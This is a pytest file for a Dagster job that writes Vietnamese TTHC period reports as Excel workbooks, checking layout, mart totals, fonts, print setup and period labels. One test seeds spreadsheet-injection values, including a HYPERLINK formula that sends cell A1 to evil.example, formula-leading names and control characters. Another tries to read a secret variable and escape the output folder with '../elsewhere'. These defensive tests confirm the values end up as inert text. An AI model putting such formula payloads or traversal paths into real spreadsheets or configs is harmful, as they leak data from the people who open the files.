"""The periodic TTHC report as a spreadsheet: opened with openpyxl, its layout and numbers equal the mart."""

from __future__ import annotations

from pathlib import Path

import dagster as dg
import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import text

from assets.period_report_mart import tthc_period_report
from assets.report_files import tthc_periodic_report
from core.asset_keys import TTHC_PERIODIC_REPORT as PERIODIC_REPORT_KEY
from core.run_clock import AS_OF_TAG
from reports.period_form import FORM_COLUMNS, cell_text, latest_complete, parse_period
from reports.points_lost_sheet import SHEET_TITLE
from resources.warehouse import WarehouseResource
from tests.period_report_data import AS_OF, INSERT_CASE, install_period_cases, period_case

GROUP_HEADERS = ["Số hồ sơ nhận giải quyết", "Số hồ sơ đã giải quyết", "Số hồ sơ đang giải quyết"]
SUB_HEADERS = ["Tổng số", "Trong kỳ", "Trực tuyến", "Trực tiếp và bưu chính", "Từ kỳ trước", "Trước hạn",
               "Đúng hạn", "Quá hạn", "Trong hạn"]  # fmt: skip


def run_report(warehouse: WarehouseResource, folder: Path, **config: object) -> dict[str, Path]:
    """Publish the mart and write the workbooks; return period code -> file."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("EGOV_SYNC_REPORT_DIR", str(folder.parent))
        result = dg.materialize(
            [tthc_period_report, tthc_periodic_report],
            resources={"warehouse": warehouse},
            tags={AS_OF_TAG: AS_OF.isoformat()},
            run_config={"ops": {"report__tthc_periodic": {"config": {"output_dir": folder.name, **config}}}},
            instance=dg.DagsterInstance.ephemeral(),
            raise_on_error=False,
        )
    if not result.success:
        raise RuntimeError("run failed")
    [event] = [e for e in result.get_asset_materialization_events() if e.asset_key == PERIODIC_REPORT_KEY]
    metadata = event.materialization.metadata
    return {
        name.split("/", 1)[1]: Path(value.value)
        for name, value in metadata.items()
        if name.startswith("file/")
    }


def mart_rows(warehouse: WarehouseResource, kind: str, start: str, unit: str) -> dict[str, tuple[int, ...]]:
    """field_code -> the form's counts, left to right, for one period and unit."""
    columns = ", ".join(FORM_COLUMNS)
    with warehouse.begin() as conn:
        found = conn.execute(
            text(
                "SELECT field_code, " + columns + " FROM mart.tthc_period_report"
                " WHERE period_kind = :k AND period_start = CAST(:s AS date) AND unit_code = :u"
            ),
            {"k": kind, "s": start, "u": unit},
        ).all()
    return {row[0]: tuple(row[1:]) for row in found}


def sheet_values(sheet: Worksheet) -> list[list[object]]:
    """Every row of a worksheet as a list of values."""
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def workbooks(warehouse: WarehouseResource, tmp_path: Path) -> dict[str, Path]:
    """The workbooks of the hand-made cases: the latest complete periods and 2025-Q2 asked for."""
    install_period_cases(warehouse)
    with warehouse.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO raw.newsys_unit (unit_code, name, level, payload, fetched_at)"
                " VALUES ('U1', 'Phòng Nghiệp vụ Dược', 'SO', '{}', now()),"
                " ('U3', 'Phòng Nghiệp vụ Y', 'SO', '{}', now())"
            )
        )
    return run_report(
        warehouse, tmp_path / "periodic", periods=["2025-Q2"], form_number="Biểu số 06/VPCP/KSTT"
    )


def test_latest_complete_periods_and_the_one_asked_for_are_written(workbooks: dict[str, Path]) -> None:
    assert sorted(workbooks) == ["2025", "2025-H2", "2025-Q2", "2025-Q4"]
    assert all(path.is_file() and path.suffix == ".xlsx" for path in workbooks.values())


def test_year_workbook_has_the_form_layout_and_the_mart_numbers(
    workbooks: dict[str, Path], warehouse: WarehouseResource
) -> None:
    book = load_workbook(workbooks["2025"])
    assert book.sheetnames == ["Toàn Sở", "U1", "U3", SHEET_TITLE]
    for sheet_name, unit in (("Toàn Sở", "ALL"), ("U1", "U1"), ("U3", "U3")):
        sheet = book[sheet_name]
        rows = sheet_values(sheet)
        texts = [str(value) for row in rows for value in row if value is not None]
        assert "SỞ Y TẾ TỈNH ĐỒNG NAI" in texts
        assert "Biểu số 06/VPCP/KSTT" in texts
        assert "Kỳ báo cáo: Năm 2025 (từ 01/01/2025 đến 31/12/2025)" in texts
        assert "Đơn vị tính: Số hồ sơ TTHC" in texts
        assert all(label in texts for label in GROUP_HEADERS + SUB_HEADERS)
        numbers_at = next(i for i, row in enumerate(rows) if row[0] == "(1)")
        assert rows[numbers_at][:13] == [f"({n})" for n in range(1, 14)]
        assert rows[numbers_at - 3][:2] == ["STT", "Lĩnh vực, công việc giải quyết"]
        body = rows[numbers_at + 1 :]
        totals_at = next(i for i, row in enumerate(body) if row[1] == "Tổng cộng")
        fields = {row[1]: tuple(row[2:13]) for row in body[:totals_at]}
        expected = mart_rows(warehouse, "year", "2025-01-01", unit)
        names = {"F1": "Dược phẩm", "F2": "Khám bệnh, chữa bệnh", "": "Thủ tục không có trong danh mục"}
        assert fields == {names[code]: counts for code, counts in expected.items() if code != "ALL"}
        assert [row[0] for row in body[:totals_at]] == list(range(1, totals_at + 1))
        assert tuple(body[totals_at][2:13]) == expected["ALL"]
    assert book["U1"]["A2"].value == "Đơn vị báo cáo: Phòng Nghiệp vụ Dược (U1)"


def test_merged_headers_fonts_and_a4_landscape_print_setup(workbooks: dict[str, Path]) -> None:
    sheet = load_workbook(workbooks["2025-Q2"])["Toàn Sở"]
    merged = {str(area) for area in sheet.merged_cells.ranges}
    assert {"A8:A10", "B8:B10", "C8:F8", "G8:J8", "K8:M8", "D9:E9"} <= merged
    assert sheet["C8"].value == "Số hồ sơ nhận giải quyết"
    assert sheet["A5"].value == "Kỳ báo cáo: Quý II/2025 (từ 01/04/2025 đến 30/06/2025)"
    assert {sheet.cell(row=r, column=c).font.name for r in range(1, 14) for c in range(1, 14)
            if sheet.cell(row=r, column=c).value is not None} == {"Times New Roman"}  # fmt: skip
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert int(sheet.page_setup.fitToWidth) == 1
    assert sheet.print_title_rows == "$8:$11"
    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLM"]
    assert sum(widths) < 190


def test_period_labels_and_codes() -> None:
    assert parse_period("2026-Q3").label() == "Quý III/2026 (từ 01/07/2026 đến 30/09/2026)"
    assert parse_period("2026-H1").label().startswith("6 tháng đầu năm 2026")
    assert parse_period("2026-H2").label() == "6 tháng cuối năm 2026 (từ 01/07/2026 đến 31/12/2026)"
    assert parse_period("2026").label() == "Năm 2026 (từ 01/01/2026 đến 31/12/2026)"
    assert latest_complete("quarter", AS_OF.date()).code == "2025-Q4"
    with pytest.raises(ValueError, match="2026-Q5"):
        parse_period("2026-Q5")


def test_a_period_asked_for_without_cases_fails_clearly(warehouse: WarehouseResource, tmp_path: Path) -> None:
    install_period_cases(warehouse)
    with pytest.raises(RuntimeError):
        run_report(warehouse, tmp_path / "periodic", periods=["2019-Q1"])


FIELD_NAMES = {"F1": '=HYPERLINK("http://evil.example/?q="&A1,"Dược phẩm")', "F2": "Khám\x07bệnh\x1f, \ufffe"}
UNIT_NAMES = {"U1": "+Phòng\x0bNghiệp vụ Dược", "U3": "@SUM(A1)\u202e Phòng Y"}
ODD_UNIT = "'=U\x1b:9*'"


def test_names_with_control_characters_and_formula_signs_are_written_as_plain_text(
    warehouse: WarehouseResource, tmp_path: Path
) -> None:
    install_period_cases(warehouse)
    with warehouse.begin() as conn:
        for code, name in FIELD_NAMES.items():
            conn.execute(
                text("UPDATE raw.newsys_procedure SET field_name = :n WHERE field_code = :c"),
                {"n": name, "c": code},
            )
        conn.execute(
            text("INSERT INTO raw.newsys_unit (unit_code, name, level, payload, fetched_at)"
                 " VALUES (:c, :n, 'SO', '{}', now())"),
            [{"c": code, "n": name} for code, name in UNIT_NAMES.items()],
        )  # fmt: skip
        odd_case = period_case("X", ODD_UNIT, "P1", 2, 10, "2025-04-02 09:00", "2025-04-15 17:00", None)
        conn.execute(INSERT_CASE, odd_case)
    workbooks = run_report(warehouse, tmp_path / "periodic", periods=["2025-Q2"], form_number="-1+2 #N/A")
    book = load_workbook(workbooks["2025-Q2"])
    odd_title = next(title for title in book.sheetnames if title not in ("Toàn Sở", "U1", "U3", SHEET_TITLE))
    assert odd_title == "=U--9-"
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for found in row:
                assert found.data_type != "f", f"{sheet.title}!{found.coordinate} is a formula: {found.value}"
                if isinstance(found.value, str):
                    assert found.data_type == "s", f"{sheet.title}!{found.coordinate}"
                    texts.add(found.value)
    assert {cell_text(name) for name in FIELD_NAMES.values()} <= texts
    assert cell_text(FIELD_NAMES["F2"]) == "Khám\ufffdbệnh\ufffd, \ufffd"
    assert "-1+2 #N/A" in texts
    assert f"Đơn vị báo cáo: {cell_text(UNIT_NAMES['U1'])} (U1)" in texts
    assert f"Đơn vị báo cáo: {cell_text(UNIT_NAMES['U3'])} (U3)" in texts
    assert f"Đơn vị báo cáo: {cell_text(ODD_UNIT)} ({cell_text(ODD_UNIT)})" in texts


def test_a_cell_text_is_cut_to_what_a_cell_holds() -> None:
    assert cell_text("x" * 32_767) == "x" * 32_767
    assert cell_text("x" * 40_000) == "x" * 32_766 + "…"
    cut = cell_text("😀" * 20_000)
    assert cut.endswith("…") and len(cut.encode("utf-16-le")) // 2 <= 32_767


def test_run_config_can_neither_read_a_secret_nor_write_outside_the_reports_folder(
    warehouse: WarehouseResource, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    install_period_cases(warehouse)
    secret = "a-secret-pii-key-of-the-deployment-0123456789"
    monkeypatch.setenv("PII_HASH_KEY", secret)
    monkeypatch.setenv("EGOV_SYNC_REPORT_DIR", str(tmp_path / "reports"))
    for config in ({"form_number": {"env": "PII_HASH_KEY"}}, {"output_dir": str(tmp_path / "elsewhere")},
                   {"output_dir": "../elsewhere"}):
        result = dg.materialize(
            [tthc_period_report, tthc_periodic_report],
            resources={"warehouse": warehouse},
            tags={AS_OF_TAG: AS_OF.isoformat()},
            run_config={"ops": {"report__tthc_periodic": {"config": config}}},
            instance=dg.DagsterInstance.ephemeral(),
            raise_on_error=False,
        )
        assert not result.success, config
        failures = " ".join(str(event.event_specific_data) for event in result.all_events if event.is_failure)
        assert secret not in failures
    assert not (tmp_path / "elsewhere").exists()
    for path in tmp_path.rglob("*.xlsx"):
        for sheet in load_workbook(path).worksheets:
            assert all(secret not in str(value) for row in sheet_values(sheet) for value in row)
